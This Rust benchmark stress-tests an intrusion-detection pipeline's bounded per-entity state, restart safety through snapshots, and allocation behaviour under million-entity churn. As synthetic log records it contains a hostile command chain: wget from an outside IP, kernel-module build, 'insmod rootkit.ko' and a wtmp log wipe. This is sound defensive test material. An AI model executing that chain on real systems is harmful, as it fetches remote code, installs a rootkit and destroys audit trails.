//! BENCH_8 — multi-tenant service core: bounded entity state under
//! million-entity churn, and restart safety through the snapshot wire
//! format.
//!
//! A long-lived service deployment cannot let per-entity detector state
//! grow with every address that ever probed the border. This bench
//! drives a churn workload of ~1M distinct entities (one short-lived
//! benign session each, an S1 kernel-module attack chain woven in every
//! thousand entities) through the `detect_max_entities`-bounded pipeline
//! and gates on four properties:
//!
//! - **Bounded memory** — with a 4096-entity budget and a 15-minute
//!   session timeout, resident tagger state stays at/under the budget
//!   while millions of entities stream past (eviction demonstrably
//!   active, witnessed through the service snapshot).
//! - **Detection neutrality** — the bounded pipeline's detection stream
//!   is byte-identical to the unbounded baseline's: eviction only sweeps
//!   state the temporal policy already declares dead, and detection
//!   latches survive eviction.
//! - **Restart safety** — snapshotting the tenant halfway, writing the
//!   snapshot through its JSON wire format to a fixture file, restoring
//!   it into a *fresh* service and replaying the tail must drift by
//!   exactly **0 detections** from the uninterrupted run. Re-encoding
//!   the decoded fixture must reproduce its bytes exactly.
//! - **Steady-state allocations** — the warmed
//!   symbolize → filter → observe path over resident entities stays
//!   allocation-free (≤ 7e-6 allocs/record) with the entity budget
//!   armed.
//!
//! Emits `BENCH_8.json` (at the workspace root, or `$BENCH_OUT`) and the
//! restart fixture `BENCH_8_snapshot.json` (`$BENCH_SNAPSHOT_OUT`).
//! Run with: `cargo run --release -p bench --bin bench8`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2).

use std::time::Instant;

use bench::detection_bytes;
use detect::attack_tagger::{AttackTagger, TaggerConfig, TemporalPolicy};
use detect::train::toy_training_model;
use simnet::alloc_count::{allocations, CountingAllocator};
use simnet::intern::{SymScope, TenantId};
use simnet::time::{SimDuration, SimTime};
use telemetry::record::{LogRecord, ProcessRecord};
use testbed::stage::{BuiltPipeline, PipelineBuilder};
use testbed::{ServiceConfig, ServiceHandle, ServiceSnapshot};

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Per-entity detector state budget the bounded runs arm.
const BUDGET: usize = 4096;
/// One attack chain is woven in per this many benign churn entities.
const ATTACK_EVERY: usize = 1_000;
/// Idle gap after which churn entities are provably dead (and thus
/// evictable without touching detection).
const SESSION_TIMEOUT: SimDuration = SimDuration::from_mins(15);
const ALLOC_GATE_PER_RECORD: f64 = 7e-6;
/// The S1 kernel-module chain (wget → make → insmod → log wipe) every
/// woven-in attacker executes; detected by the toy-trained model.
const S1_CHAIN: [&str; 4] = [
    "wget http://64.215.4.5/abs.c",
    "make -C /lib/modules/4.4/build modules",
    "insmod rootkit.ko",
    "echo 0>/var/log/wtmp",
];

fn exec_record(user: &str, ts: SimTime, cmdline: &str) -> LogRecord {
    LogRecord::Process(ProcessRecord {
        ts,
        host: simnet::topology::HostId(0),
        hostname: "cn01".into(),
        user: user.into(),
        pid: 4_000,
        ppid: 1,
        exe: "/bin/sh".into(),
        cmdline: cmdline.into(),
    })
}

/// The churn workload: `entities` distinct users, one benign exec each,
/// one second apart — so state ages past the session timeout and the
/// budget sweep always has provably-dead entries to reclaim — with an S1
/// attack chain (60 s cadence, well inside the timeout) every
/// [`ATTACK_EVERY`] entities. Returns the records and the attacker count.
fn churn_workload(entities: usize) -> (Vec<LogRecord>, usize) {
    let mut records = Vec::with_capacity(entities + 4 * entities / ATTACK_EVERY + 4);
    let mut attackers = 0;
    for i in 0..entities {
        let base = SimTime::from_secs(i as u64);
        records.push(exec_record(
            &format!("churn{i}"),
            base,
            "cat ~/.bash_history",
        ));
        if i % ATTACK_EVERY == 0 {
            attackers += 1;
            for (k, c) in S1_CHAIN.iter().enumerate() {
                records.push(exec_record(
                    &format!("mallory{attackers}"),
                    base + SimDuration::from_secs(1 + 60 * k as u64),
                    c,
                ));
            }
        }
    }
    records.sort_by_key(|r| match r {
        LogRecord::Process(p) => p.ts,
        _ => SimTime::from_secs(0),
    });
    (records, attackers)
}

fn pipeline(max_entities: usize, scope: SymScope) -> BuiltPipeline {
    PipelineBuilder::new()
        .tagger(AttackTagger::new(
            toy_training_model(),
            TaggerConfig::default(),
        ))
        .temporal(TemporalPolicy {
            session_timeout: Some(SESSION_TIMEOUT),
            ..TemporalPolicy::default()
        })
        .detect_max_entities(max_entities)
        .scope(scope)
        .build()
}

fn service(max_entities: usize) -> ServiceHandle {
    ServiceHandle::spawn(ServiceConfig::default(), move |_, scope| {
        pipeline(max_entities, scope)
    })
}

fn ingest_all(svc: &ServiceHandle, tenant: TenantId, records: &[LogRecord]) {
    for chunk in records.chunks(BUDGET) {
        svc.ingest(tenant, chunk.to_vec()).expect("worker alive");
    }
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_8: service core — bounded entity state & restart safety");

    let entities = ((1_000_000.0 * scale) as usize).max(20_000);
    let (records, attackers) = churn_workload(entities);
    let n = records.len();
    println!("workload: {n} records, {entities} distinct churn entities, {attackers} attackers");

    // Detection neutrality: bounded vs unbounded, byte for byte.
    let t0 = Instant::now();
    let unbounded = pipeline(0, SymScope::global()).run_inline(records.clone());
    let unbounded_s = t0.elapsed().as_secs_f64();
    let t0 = Instant::now();
    let bounded = pipeline(BUDGET, SymScope::global()).run_inline(records.clone());
    let bounded_s = t0.elapsed().as_secs_f64();
    let byte_identical = detection_bytes(&bounded) == detection_bytes(&unbounded)
        && bounded.stats == unbounded.stats;
    assert!(
        byte_identical,
        "entity budget changed the detection stream ({} vs {} detections)",
        bounded.stats.detections, unbounded.stats.detections
    );
    assert_eq!(
        bounded.stats.detections, attackers as u64,
        "every woven-in S1 chain must be detected"
    );
    println!(
        "neutrality: {} detections bounded and unbounded, byte-identical \
         (inline {unbounded_s:.3}s unbounded, {bounded_s:.3}s bounded)",
        bounded.stats.detections
    );

    // Bounded memory, witnessed through the service snapshot: resident
    // tagger state at/under budget, eviction counter running.
    let tenant = TenantId(8);
    let svc = service(BUDGET);
    ingest_all(&svc, tenant, &records);
    let snap = svc.snapshot(tenant).expect("live tenant");
    let tagger_snap = snap.tagger.as_ref().expect("tagger pipeline");
    let resident = tagger_snap.entities.len();
    let evicted = tagger_snap.entities_evicted;
    let bounded_memory = resident <= BUDGET && evicted > 0;
    let full_report = svc.evict_tenant(tenant).expect("live tenant");
    drop(svc);
    assert_eq!(
        detection_bytes(&full_report),
        detection_bytes(&bounded),
        "service ingestion must match the inline run byte for byte"
    );
    println!(
        "bounded memory: {resident} resident entities (budget {BUDGET}), {evicted} evicted -> {}",
        if bounded_memory { "PASS" } else { "FAIL" }
    );

    // Restart safety: snapshot at half-stream, through the JSON fixture
    // on disk, into a fresh service; the stitched detection stream must
    // equal the uninterrupted one exactly.
    let split = n / 2;
    let first = service(BUDGET);
    ingest_all(&first, tenant, &records[..split]);
    let mid = first.snapshot(tenant).expect("live tenant");
    let head_report = first.shutdown().pop().expect("one live tenant reports").1;
    let fixture =
        std::env::var("BENCH_SNAPSHOT_OUT").unwrap_or_else(|_| "BENCH_8_snapshot.json".to_string());
    std::fs::write(&fixture, mid.to_json()).expect("write snapshot fixture");
    let wire = std::fs::read_to_string(&fixture).expect("read snapshot fixture");
    let restored = ServiceSnapshot::from_json(&wire).expect("fixture parses");
    assert_eq!(restored, mid, "wire format must round-trip losslessly");
    let wire_roundtrip_byte_identical = restored.to_json() == wire;
    assert!(
        wire_roundtrip_byte_identical,
        "re-encoding the decoded fixture must reproduce its bytes"
    );
    println!("[artifact] {fixture}");

    let second = service(BUDGET);
    second.restore(restored).expect("snapshot fits the factory");
    ingest_all(&second, tenant, &records[split..]);
    let tail_report = second.shutdown().pop().expect("one live tenant reports").1;
    let stitched = format!(
        "{}{}",
        detection_bytes(&head_report),
        detection_bytes(&tail_report)
    );
    let full_bytes = detection_bytes(&full_report);
    // Tail-report counters are cumulative (restored from the snapshot),
    // so any drift shows up directly against the uninterrupted run.
    let drift_detections =
        tail_report.stats.detections as i64 - full_report.stats.detections as i64;
    let restart_safe = stitched == full_bytes && tail_report.stats == full_report.stats;
    assert!(
        restart_safe,
        "snapshot/restore drifted: {drift_detections} detections \
         ({} stitched-cumulative vs {} uninterrupted)",
        tail_report.stats.detections, full_report.stats.detections
    );
    println!("restart safety: snapshot at record {split}, 0 detections drifted -> PASS");

    // Steady-state allocations with the budget armed: a warmed pass over
    // resident entities (512 users cycling well inside the timeout) must
    // not allocate.
    let steady_n = n.min(500_000);
    let steady: Vec<LogRecord> = (0..steady_n)
        .map(|i| {
            exec_record(
                &format!("resident{}", i % 512),
                SimTime::from_secs(i as u64),
                "cat ~/.bash_history",
            )
        })
        .collect();
    let mut sym = alertlib::Symbolizer::with_defaults();
    let mut filt = alertlib::ScanFilter::default();
    let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
    tagger.set_max_entities(BUDGET);
    let mut alerts = Vec::with_capacity(64);
    for r in &steady {
        alerts.clear();
        sym.symbolize_into(r, &mut alerts);
        for a in &alerts {
            if filt.admit(a) {
                tagger.observe(a);
            }
        }
    }
    let (steady_allocs, _) = allocations(|| {
        let mut d = 0u64;
        for r in &steady {
            alerts.clear();
            sym.symbolize_into(r, &mut alerts);
            for a in &alerts {
                if filt.admit(a) && tagger.observe(a).is_some() {
                    d += 1;
                }
            }
        }
        d
    });
    let steady_allocs_per_record = steady_allocs as f64 / steady_n as f64;
    let alloc_pass = steady_allocs_per_record <= ALLOC_GATE_PER_RECORD;
    println!(
        "allocations: {steady_allocs_per_record:.9}/record steady-state \
         (limit {ALLOC_GATE_PER_RECORD:e}) -> {}",
        if alloc_pass { "PASS" } else { "FAIL" }
    );

    let artifact = serde_json::json!({
        "workload": {
            "entities": entities,
            "records": n,
            "attackers": attackers,
            "scale": scale,
            "budget": BUDGET,
            "session_timeout_secs": SESSION_TIMEOUT.as_secs(),
        },
        "detections": bounded.stats.detections,
        "detections_byte_identical": byte_identical,
        "bounded_memory": bounded_memory,
        "timing": {
            "inline_unbounded_seconds": unbounded_s,
            "inline_bounded_seconds": bounded_s,
        },
        "acceptance": {
            "bounded_memory": {
                "resident_entities": resident,
                "budget": BUDGET,
                "entities_evicted": evicted,
                "pass": bounded_memory,
            },
            "detection_neutrality": {
                "pass": byte_identical,
            },
            "snapshot_restore": {
                "split_record": split,
                "drift_detections": drift_detections,
                "fixture": fixture,
                "pass": restart_safe,
            },
            "wire_roundtrip_byte_identical": wire_roundtrip_byte_identical,
            "steady_state_allocations": {
                "per_record": steady_allocs_per_record,
                "limit": ALLOC_GATE_PER_RECORD,
                "pass": alloc_pass,
            },
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_8.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_8.json");
    println!("[artifact] {out}");

    // All four gates are determinism/accounting properties and hold at
    // any scale; they are hard at every BENCH_SCALE.
    assert!(
        bounded_memory,
        "resident state exceeded the entity budget ({resident} > {BUDGET}) or never evicted"
    );
    assert!(alloc_pass, "steady-state allocations per record regressed");
}
